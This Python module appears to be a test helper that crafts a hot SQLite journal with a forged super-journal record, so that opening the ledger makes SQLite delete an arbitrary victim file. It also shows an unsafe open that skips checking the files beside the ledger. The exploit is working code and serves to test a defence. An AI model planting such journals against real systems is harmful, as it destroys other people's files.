"""Make a journal file that makes SQLite delete another file.

An attacker could send such a journal together with a ledger.
"""

import shutil
import sqlite3
from contextlib import closing
from pathlib import Path
from types import ModuleType

PENDING_BYTE = 0x40000000
MAGIC = bytes.fromhex("d9d505f920a163d7")


def plant(ledger: Path, victim: Path, folder: Path, key: str | None = None) -> Path:
    """Make a journal as an interrupted write leaves it, and add the path of `victim` to it."""
    leave_hot_journal(ledger, folder, key)
    journal = Path(f"{ledger}-journal")
    name = str(victim).encode()
    with journal.open("ab") as file:
        file.write((PENDING_BYTE // 4096 + 1).to_bytes(4, "big") + name)
        file.write(len(name).to_bytes(4, "big") + sum(name).to_bytes(4, "big") + MAGIC)
    return journal


def look(ledger: Path, driver: ModuleType = sqlite3, key: str | None = None) -> None:
    """Open a ledger as partyctl must not: without first checking the files beside the ledger."""
    with closing(driver.connect(ledger)) as opened:
        if key is not None:
            opened.set_key(key)
        opened.execute("SELECT count(*) FROM staff").fetchone()


def leave_hot_journal(ledger: Path, folder: Path, key: str | None) -> None:
    driver = sqlite3
    if key is not None:
        from sqlcipher3 import dbapi2

        driver = dbapi2
    folder.mkdir()
    with closing(driver.connect(ledger, isolation_level=None)) as writer:
        if key is not None:
            writer.set_key(key)
        writer.execute("PRAGMA cache_size = 1")
        writer.execute("PRAGMA cache_spill = 1")
        writer.execute("BEGIN IMMEDIATE")
        writer.execute("UPDATE member SET name = name || '改'")
        for number in range(300):
            writer.execute(
                "INSERT INTO staff (recorded_at, name) VALUES ('x', ?)", (f"{number}" * 200,)
            )
        for each in (ledger, Path(f"{ledger}-journal")):
            shutil.copyfile(each, folder / each.name)
        writer.execute("ROLLBACK")
    for each in (ledger, Path(f"{ledger}-journal")):
        shutil.copyfile(folder / each.name, each)
